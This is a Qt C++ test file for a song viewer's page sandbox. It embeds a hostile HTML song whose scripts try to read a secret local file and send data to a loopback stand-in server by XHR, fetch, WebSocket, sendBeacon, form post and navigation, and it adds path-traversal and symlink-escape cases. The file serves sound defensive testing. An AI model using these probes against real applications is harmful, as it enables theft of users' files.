// A song's page is untrusted: its scripts may not read the user's files nor
// send anything anywhere, and its links open in the user's own programs.
#include <memory>
#include <utility>

#include <QDesktopServices>
#include <QDir>
#include <QFile>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTemporaryDir>
#include <QTest>
#include <QWindow>

#include "app/MainFrame.h"
#include "document/PageGuard.h"
#include "document/QuavernDoc.h"
#include "document/QuavernView.h"
#include "tests/gui/GuiTestSupport.h"
#include "tests/support/EventWait.h"
#include "tests/support/PageScript.h"

namespace {

/// A server on the loopback that counts whoever connects to it.
class CListeningServer final {
public:
    CListeningServer() {
        m_server.listen(QHostAddress::LocalHost);
        QObject::connect(&m_server, &QTcpServer::newConnection, [this] {
            while (QTcpSocket* socket = m_server.nextPendingConnection()) {
                ++connections;
                QObject::connect(socket, &QTcpSocket::readyRead, [this, socket] { received += socket->readAll(); });
            }
        });
    }
    QString Url(const char* path) const {
        return QStringLiteral("http://127.0.0.1:%1/%2").arg(m_server.serverPort()).arg(QLatin1String(path));
    }
    int connections = 0;
    QByteArray received;

private:
    QTcpServer m_server;
};

/// Stands in for the user's browser and mail program while it lives.
class CDesktopRecorder final : public QObject {
    Q_OBJECT

public:
    CDesktopRecorder() {
        for (const char* scheme : {"http", "mailto"})
            QDesktopServices::setUrlHandler(QLatin1String(scheme), this, "Open");
    }
    ~CDesktopRecorder() override {
        for (const char* scheme : {"http", "mailto"})
            QDesktopServices::unsetUrlHandler(QLatin1String(scheme));
    }
    QList<QUrl> opened;

public Q_SLOTS:
    void Open(const QUrl& url) { opened.append(url); }
};

bool LinkPictures(const QString& folder) {
    const QString pictures = qEnvironmentVariable("QUAVERN_OUTPUT_DIR") + QStringLiteral("/Pics");
    return QFile::exists(pictures + QStringLiteral("/Am.gif")) &&
           QFile::link(pictures, folder + QStringLiteral("/Pics"));
}

/// Where the element the selector names sits, in the window's coordinates.
QPoint CentreOf(const CProgramFixture& program, const QString& selector) {
    const QJsonObject box = RunJson(program.View()->page(),
                                    QStringLiteral("var r = document.querySelector('%1').getBoundingClientRect();"
                                                   "JSON.stringify({x: r.left + r.width / 2, y: r.top + r.height / 2})")
                                        .arg(selector));
    return program.View()->mapTo(program.Frame(), QPoint(qRound(box[u"x"].toDouble()), qRound(box[u"y"].toDouble())));
}

bool ShowsDisplayPage(const CProgramFixture& program) {
    return program.View()->url().toLocalFile() == program.Document()->DisplayPath();
}

} // namespace

class TestPageSafety final : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void guardLetsThroughOnlyTheReadableFolders();
    void hostileSongReachesNothing();
    void linksOpenInTheUsersOwnPrograms();
};

void TestPageSafety::guardLetsThroughOnlyTheReadableFolders() {
    QTemporaryDir root;
    const QString songs = root.filePath(QStringLiteral("songs"));
    QVERIFY(QDir().mkpath(songs + QStringLiteral("/pictures")));
    for (const QString& name :
         {QStringLiteral("songs/a.htm"), QStringLiteral("songs/pictures/p.png"), QStringLiteral("other.txt")}) {
        QFile file(root.filePath(name));
        QVERIFY(file.open(QIODevice::WriteOnly));
    }
    QVERIFY(QFile::link(root.path(), songs + QStringLiteral("/way-out")));
    CPageGuard guard;
    guard.SetReadableFolders({songs});
    const auto file = [&](const QString& path) { return QUrl::fromLocalFile(root.filePath(path)); };
    const QList<std::pair<QUrl, bool>> cases = {
        {file(QStringLiteral("songs/a.htm")), true},
        {file(QStringLiteral("songs/pictures/p.png")), true},
        {QUrl(QStringLiteral("data:text/plain,x")), true},
        {file(QStringLiteral("other.txt")), false},
        {file(QStringLiteral("songs/../other.txt")), false},
        {file(QStringLiteral("songs/way-out/other.txt")), false},
        {file(QStringLiteral("songs/missing.htm")), false},
        {QUrl(QStringLiteral("file://host") + root.filePath(QStringLiteral("songs/a.htm"))), false},
        {QUrl(QStringLiteral("http://127.0.0.1/")), false},
        {QUrl(QStringLiteral("ws://127.0.0.1/")), false},
    };
    for (const auto& [url, allowed] : cases)
        QVERIFY2(guard.Allows(url) == allowed, qPrintable(url.toString()));
}

void TestPageSafety::hostileSongReachesNothing() {
    CProgramFixture program;
    if (!LinkPictures(program.Folder()))
        QSKIP("the chord pictures are not built");
    QTemporaryDir elsewhere;
    const QString secret = elsewhere.filePath(QStringLiteral("secret.txt"));
    QFile file(secret);
    QVERIFY(file.open(QIODevice::WriteOnly) && file.write("kept-from-the-page") > 0);
    file.close();
    CListeningServer server;
    CDesktopRecorder desktop;
    const QString secretUrl = QUrl::fromLocalFile(secret).toString();
    // Every way out a page has: reading a file outside the song's folder,
    // then sending to the server by each kind of request and by navigation.
    QString song = QStringLiteral(
        "<html><head><title>Hostile</title>"
        "<link rel=\"stylesheet\" href=\"@/style.css\">"
        "<meta http-equiv=\"refresh\" content=\"0;url=@/refresh\"></head><body>"
        "<pre>Am   G   C\nla la la</pre><pre id=\"out\"></pre>"
        "<img src=\"@/image.png\"><iframe src=\"@/frame\"></iframe><iframe src=\"SECRET\"></iframe>"
        "<form id=\"form\" action=\"@/form\" method=\"post\"><input name=\"a\" value=\"b\"></form>"
        "<script>"
        "function note(s) { document.getElementById('out').textContent += s + '\\n'; }"
        "try { var x = new XMLHttpRequest(); x.open('GET', 'SECRET', false); x.send(); note(x.responseText); }"
        " catch (e) { note('xhr refused'); }"
        "fetch('SECRET').then(function (r) { return r.text(); }).then(note, function () { note('fetch refused'); });"
        "try { new WebSocket('ws://@HOST/socket'); } catch (e) {}"
        "fetch('@/fetch').catch(function () {});"
        "navigator.sendBeacon('@/beacon', 'data');"
        "new Image().src = '@/scripted-image.png';"
        "window.open('@/window');"
        "Notification.requestPermission().then(function (p) { note('notifications ' + p); });"
        "navigator.geolocation.getCurrentPosition(function () {}, function () { note('location refused'); });"
        "navigator.clipboard.readText().then(note, function () { note('clipboard refused'); });"
        // (A navigation begun while the page is parsed would cut it short.)
        "addEventListener('load', function () {"
        " setTimeout(function () { document.getElementById('form').submit(); }, 100);"
        " setTimeout(function () { location.href = '@/location'; }, 200); });"
        "</script></body></html>");
    song.replace(QStringLiteral("@HOST"), server.Url("").mid(7).chopped(1));
    song.replace(QStringLiteral("@"), server.Url("").chopped(1));
    song.replace(QStringLiteral("SECRET"), secretUrl);
    QVERIFY(program.Start(1));
    QVERIFY(QDir(program.Folder()).mkdir(QStringLiteral("songs")));
    QVERIFY(program.OpenSong(program.WriteFile(QStringLiteral("songs/hostile.htm"), song.toUtf8())));
    QTest::qWait(1500);

    QCOMPARE(server.connections, 0);
    QVERIFY(ShowsDisplayPage(program));
    const QString page = Run(program.View()->page(), QStringLiteral("document.documentElement.outerHTML")).toString();
    for (const char* refusal :
         {"xhr refused", "fetch refused", "notifications denied", "location refused", "clipboard refused"})
        QVERIFY2(page.contains(QLatin1String(refusal)), refusal);
    QVERIFY(!page.contains(QStringLiteral("kept-from-the-page")));

    // The chord pictures load, and pointing at a chord shows its fingering.
    const QString loadedPictures = QStringLiteral("Array.prototype.filter.call(document.images, function (i) { return "
                                                  "i.complete && i.naturalWidth > 0; }).length");
    QVERIFY(WaitUntil([&] { return Run(program.View()->page(), loadedPictures).toInt() == 85; }, 20000));
    QTest::mouseMove(program.Frame()->windowHandle(), CentreOf(program, QStringLiteral("span[onmouseover]")));
    QVERIFY(WaitUntil(
        [&] {
            return Run(program.View()->page(), QStringLiteral("document.getElementById('QV3Am').style.visibility"))
                       .toString() == QStringLiteral("visible");
        },
        5000));
    QCOMPARE(server.connections, 0);
    QVERIFY(desktop.opened.isEmpty());
}

void TestPageSafety::linksOpenInTheUsersOwnPrograms() {
    CProgramFixture program;
    CListeningServer server;
    CDesktopRecorder desktop;
    const QString link = server.Url("song-notes");
    QVERIFY(program.Start());
    QVERIFY(program.OpenSong(program.WriteFile(
        QStringLiteral("links.htm"),
        QStringLiteral("<p>Am G</p><p><a id=\"web\" href=\"%1\">notes</a></p><p><a id=\"tab\" target=\"_blank\" "
                       "href=\"%1\">notes</a></p><p><a id=\"mail\" href=\"mailto:band@example.org\">mail</a></p>"
                       "<p><a id=\"file\" href=\"/etc/hostname\">file</a></p><p><a id=\"made\" href=\"%1\" "
                       "onmousedown=\"this.href += '?read=' + document.title\">made up</a></p><p><a id=\"verse\" "
                       "href=\"#v2\">v2</a></p>"
                       "<p style=\"margin-top: 3000px\" id=\"v2\">Verse 2</p>")
            .arg(link)
            .toUtf8())));
    QWindow* window = program.Frame()->windowHandle();
    const QList<QUrl> expected = {QUrl(link), QUrl(link), QUrl(QStringLiteral("mailto:band@example.org"))};
    for (const char* id : {"#web", "#tab", "#mail", "#file", "#made"})
        QTest::mouseClick(window, Qt::LeftButton, {}, CentreOf(program, QLatin1String(id)));
    QVERIFY(WaitUntil([&] { return desktop.opened.size() >= expected.size(); }, 5000));
    QTest::qWait(300);
    QCOMPARE(desktop.opened, expected);
    QVERIFY(ShowsDisplayPage(program));
    // A link within the song still moves through it.
    QTest::mouseClick(window, Qt::LeftButton, {}, CentreOf(program, QStringLiteral("#verse")));
    QVERIFY(WaitUntil([&] { return program.View()->page()->scrollPosition().y() > 1000; }, 5000));
    QCOMPARE(server.connections, 0);
}

QTEST_MAIN(TestPageSafety)
#include "TestPageSafety.moc"
